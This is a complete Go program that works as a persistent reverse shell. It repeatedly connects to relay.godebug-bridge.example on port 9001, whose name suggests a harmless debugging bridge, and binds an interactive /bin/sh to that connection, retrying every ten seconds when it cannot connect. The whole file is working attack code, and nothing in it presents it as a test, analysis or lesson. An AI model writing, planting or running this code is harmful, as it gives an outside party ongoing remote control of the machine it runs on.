package main

import (
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		c, err := net.Dial("tcp", "relay.godebug-bridge.example:9001")
		if err != nil {
			time.Sleep(10 * time.Second)
			continue
		}
		cmd := exec.Command("/bin/sh", "-i")
		cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
		cmd.Run()
		c.Close()
	}
}
